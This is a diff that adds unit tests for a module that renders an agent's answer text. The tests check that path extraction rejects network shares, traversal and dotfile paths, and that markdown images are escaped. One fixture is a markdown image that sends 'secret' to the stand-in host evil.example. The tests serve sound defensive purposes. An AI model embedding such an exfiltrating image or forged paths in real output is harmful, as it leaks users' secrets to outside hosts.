@@ -81,6 +81,37 @@ describe('the text of an answer', () => {
     expect(fileNamedIn('See Report: `/r.md`')).toBeNull();
   });
 
+  it('names no file of another machine, and none that is no log or report', () => {
+    const forged = [
+      ...['//host/share/r.md', '\\\\host\\share\\r.md', '/\\host/r.md', '\\\\?\\UNC\\host\\r.md'],
+      ...['C://host/r.md', 'r.md', '/home/../r.md', '/home/me/.bashrc', 'file://host/r.md', ''],
+    ];
+    for (const path of forged) expect(fileNamedIn(`Report: \`${path}\``)).toBeNull();
+    expect(fileNamedIn('Run log: `//host/share/x.jsonl`')).toBeNull();
+    expect(fileNamedIn('Run log: `/logs/x.sh`')).toBeNull();
+    expect(fileNamedIn('Report: `C:\\reports\\r.md`')?.path).toBe('C:\\reports\\r.md');
+  });
+
+  it('loads nothing and leads nowhere, whoever wrote the parts of it', () => {
+    const picture = '![x](https://evil.example/?q=secret)';
+    const safe = '!\\[x]\\(https://evil.example/?q=secret)';
+    const texts = [
+      headingText(picture),
+      workingText(`Waiting for ${picture}`, picture),
+      notStartedText(picture, false),
+      finishedText(
+        result({ answer: picture, model: picture, status: 'limit', reason: picture }),
+        false,
+      ),
+    ];
+    for (const text of texts) {
+      expect(text).toContain(safe);
+      expect(text).not.toContain(picture);
+    }
+    const again = finishedText(result({ answer: safe }), false);
+    expect(again).toContain(`${safe}\n`);
+  });
+
   it('names no run where there is no log, and no path that is no log', () => {
     expect(runOfAnswer(finishedText(result({ trajectory: null }), false))).toBeNull();
     expect(runOfAnswer('Run log: `/logs/20261123-120000-abcdef.jsonl`')).toBeNull();
